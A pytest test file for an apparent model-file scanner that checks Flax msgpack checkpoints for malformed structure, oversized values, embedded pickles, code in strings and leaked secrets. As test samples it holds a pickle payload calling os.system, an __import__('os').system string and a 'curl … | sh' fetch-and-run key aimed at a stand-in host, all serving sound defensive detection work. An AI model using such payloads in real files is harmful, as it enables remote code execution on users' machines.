"""Flax/JAX msgpack checkpoints: structure bounds, array records, ext types, embedded payloads,
strings.

Benign files are real ones written by flax.serialization (tests/fixtures/flax/, see generate.py
there). Malicious and malformed documents are built here with a small msgpack writer; nothing is
ever loaded.
"""

from __future__ import annotations

import random
import struct
import time
from pathlib import Path

import pytest

from shardscan.limits import Limits
from shardscan.model import Severity
from shardscan.pipeline.runner import Runner, ScanOptions
from tests.findings import only, rules

FIXTURES = Path(__file__).parent / "fixtures" / "flax"
BENIGN = sorted(p for p in FIXTURES.iterdir() if p.suffix in (".msgpack", ".flax"))
PICKLE = b"\x80\x02cposix\nsystem\nX\n\x00\x00\x00echo pwned\x85R."


class Ext:
    def __init__(self, code: int, data: bytes) -> None:
        self.code, self.data = code, data


def pk(v) -> bytes:
    """A minimal msgpack writer (the layout msgpack-python writes with use_bin_type=True)."""
    if v is None:
        return b"\xc0"
    if isinstance(v, bool):
        return b"\xc3" if v else b"\xc2"
    if isinstance(v, int):
        return bytes([v]) if 0 <= v < 128 else b"\xd3" + struct.pack(">q", v)
    if isinstance(v, float):
        return b"\xcb" + struct.pack(">d", v)
    if isinstance(v, str):
        b = v.encode()
        return (bytes([0xA0 | len(b)]) if len(b) < 32 else b"\xdb" + struct.pack(">I", len(b))) + b
    if isinstance(v, bytes):
        return b"\xc6" + struct.pack(">I", len(v)) + v
    if isinstance(v, (list, tuple)):
        return b"\xdd" + struct.pack(">I", len(v)) + b"".join(pk(x) for x in v)
    if isinstance(v, dict):
        return b"\xdf" + struct.pack(">I", len(v)) + b"".join(pk(k) + pk(x) for k, x in v.items())
    if isinstance(v, Ext):
        return b"\xc9" + struct.pack(">Ib", len(v.data), v.code) + v.data
    raise TypeError(v)


def arr(shape, dtype: str, data: bytes) -> Ext:
    return Ext(1, pk([list(shape), dtype, data]))




def clean_run(report) -> None:
    assert "scanner failed" not in (report.error or ""), report.error
    assert report.format == "msgpack"


# --- real benign files ------------------------------------------------------------------------


def test_fixtures_exist():
    assert len(BENIGN) >= 4
    assert all(p.stat().st_size < 16 * 1024 for p in BENIGN)


@pytest.mark.parametrize("path", BENIGN, ids=[p.name for p in BENIGN])
def test_real_benign_files_are_clean(path):
    report = Runner(ScanOptions()).run([str(path)]).objects[0]
    assert report.status == "scanned", report.error
    assert report.format == "msgpack"
    assert report.findings == []


def test_crafted_benign_document_is_clean(scan_bytes):
    doc = {"params": {"w": arr((2, 3), "float32", b"\0" * 24), "b": arr((3,), "bfloat16", b"\0" * 6)},
           "step": 3, "name": "run-1", "c": Ext(2, pk([1.0, 2.0])), "s": Ext(3, pk([[], "int64", b"\0" * 8]))}
    report = scan_bytes(pk(doc), "model.msgpack")
    clean_run(report)
    assert report.findings == []


# --- integrity ------------------------------------------------------------------------------------


@pytest.mark.parametrize("data", [
    (FIXTURES / "mlp.msgpack").read_bytes()[:-7],     # truncated real file
    b"\xdf\xff\xff\xff\xff",                          # map declaring 2**32-1 entries
    b"\x81\xa1k\xc1",                                 # reserved type byte
    b"\x81\xa2k",                                     # string cut short
    pk({"k": "x"}).replace(b"x", b"\xff"),            # invalid UTF-8
    b"\xc6\xff\xff\xff\xf0ab",                        # bin length past the end
])
def test_malformed_is_integrity_finding(scan_bytes, data):
    report = scan_bytes(data, "model.msgpack")
    clean_run(report)
    assert only(report, "MPK001")[0].severity == Severity.WARNING


@pytest.mark.parametrize("seed", range(6))
def test_random_bytes_no_traceback(scan_bytes, seed):
    data = bytes(random.Random(seed).getrandbits(8) for _ in range(3000))
    start = time.monotonic()
    report = scan_bytes(data, "model.flax")
    assert time.monotonic() - start < 10
    assert "scanner failed" not in (report.error or ""), report.error


def test_empty_file_is_reported_not_crashed(scan_bytes):
    report = scan_bytes(b"", "model.msgpack")
    assert "scanner failed" not in (report.error or "")


# --- bounds ---------------------------------------------------------------------------------------


def test_deep_nesting_hits_limit(scan_bytes):
    data = b"\x91" * 5000 + b"\xc0"
    report = scan_bytes(data, "model.msgpack")
    clean_run(report)
    assert only(report, "MPK002")[0].severity == Severity.WARNING


def test_value_count_hits_limit(scan_bytes):
    report = scan_bytes(pk(list(range(100))), "model.msgpack", limits=Limits(max_msgpack_values=20))
    clean_run(report)
    assert "MPK002" in rules(report)


def test_long_string_hits_limit(scan_bytes):
    report = scan_bytes(pk({"k": "a" * 200}), "model.msgpack", limits=Limits(max_msgpack_string=100))
    clean_run(report)
    assert "MPK002" in rules(report)


# --- ext types, arrays and payloads -----------------------------------------------------------------


def test_unknown_ext_type(scan_bytes):
    report = scan_bytes(pk({"x": Ext(42, b"\x01\x02\x03")}), "model.msgpack")
    clean_run(report)
    hit = only(report, "MPK003")[0]
    assert hit.severity == Severity.WARNING and "42" in hit.message


def test_pickle_in_unknown_ext_is_scanned(scan_bytes):
    report = scan_bytes(pk({"params": {"x": Ext(99, PICKLE)}}), "model.msgpack")
    clean_run(report)
    assert {"MPK003", "MPK004"} <= rules(report)
    assert any(f.rule_id.startswith("PKL") and f.severity == Severity.CRITICAL for f in report.findings)


def test_pickle_in_bytes_value_is_scanned(scan_bytes):
    report = scan_bytes(pk({"opt_state": PICKLE}), "model.msgpack")
    clean_run(report)
    assert only(report, "MPK004")[0].severity == Severity.WARNING
    assert any(f.rule_id.startswith("PKL") and f.severity == Severity.CRITICAL for f in report.findings)


def test_pickle_as_array_of_unknown_dtype_is_scanned(scan_bytes):
    report = scan_bytes(pk({"w": arr((len(PICKLE),), "object", PICKLE)}), "model.msgpack")
    clean_run(report)
    assert {"MPK005", "MPK004"} <= rules(report)
    assert any(f.severity == Severity.CRITICAL for f in report.findings)


@pytest.mark.parametrize("record", [
    arr((4, 4), "float32", b"\0" * 16),               # shape says 64 bytes
    arr((2,), "float64", b"\0" * 1000),               # payload larger than the shape
    Ext(1, pk([[2], "float32"])),                     # two items
    Ext(1, pk([["a"], "float32", b""])),              # shape not integers
    Ext(1, pk([[2], "float32", "not bytes"])),        # data not bytes
    Ext(1, b"\xc1"),                                  # payload not msgpack
    Ext(3, pk([[], "weird", b"\0"])),                 # unknown dtype
    Ext(2, pk([1.0])),                                # complex with one part
])
def test_malformed_array_records(scan_bytes, record):
    report = scan_bytes(pk({"params": {"w": record}}), "model.msgpack")
    clean_run(report)
    assert only(report, "MPK005")[0].severity == Severity.WARNING


# --- strings -------------------------------------------------------------------------------------


def test_code_in_string(scan_bytes):
    report = scan_bytes(pk({"config": "__import__('os').system('id')"}), "model.msgpack")
    clean_run(report)
    assert only(report, "MPK006")[0].severity == Severity.WARNING


def test_code_in_key(scan_bytes):
    report = scan_bytes(pk({"curl http://x.invalid/a | sh": 1}), "model.msgpack")
    clean_run(report)
    assert "MPK006" in rules(report)


def test_url_in_string_is_info(scan_bytes):
    report = scan_bytes(pk({"source": "https://storage.invalid/ckpt"}), "model.msgpack")
    clean_run(report)
    assert only(report, "MPK007")[0].severity == Severity.INFO


def test_secrets_are_masked(scan_bytes):
    token = "ghp_" + "Zx9Yw8Vu7T" * 3
    cred = "s3cr3tValue123456"
    report = scan_bytes(pk({"meta": {"note": f"use {token}", "api_key": cred}}), "model.msgpack")
    clean_run(report)
    hits = only(report, "BIN002")
    assert len(hits) == 2 and all(h.severity == Severity.WARNING for h in hits)
    text = " ".join(f.message + repr(f.evidence) for f in report.findings)
    assert token not in text and cred not in text


# --- trailing bytes ------------------------------------------------------------------------------


def test_trailing_bytes(scan_bytes):
    data = (FIXTURES / "mlp.msgpack").read_bytes() + b"\0" * 10
    report = scan_bytes(data, "model.msgpack")
    clean_run(report)
    assert only(report, "MPK009")[0].severity == Severity.WARNING


def test_trailing_pickle_is_scanned(scan_bytes):
    data = (FIXTURES / "mlp.msgpack").read_bytes() + PICKLE
    report = scan_bytes(data, "model.flax")
    clean_run(report)
    assert {"MPK009", "MPK004"} <= rules(report)
    assert any(f.severity == Severity.CRITICAL for f in report.findings)


def test_hostile_rank_is_bounded(scan_bytes):
    record = Ext(1, pk([[0xFFFFFFFF] * 5000, "float32", b""]))
    start = time.monotonic()
    report = scan_bytes(pk({"w": record}), "model.msgpack")
    assert time.monotonic() - start < 10
    clean_run(report)
    assert "rank" in only(report, "MPK005")[0].message


def test_many_values_scan_quickly(scan_bytes):
    doc = {f"layer_{i}": {"kernel": arr((2, 2), "float32", b"\0" * 16), "note": f"n{i}"} for i in range(20000)}
    start = time.monotonic()
    report = scan_bytes(pk(doc), "model.msgpack")
    assert time.monotonic() - start < 30
    clean_run(report)
    assert report.findings == []
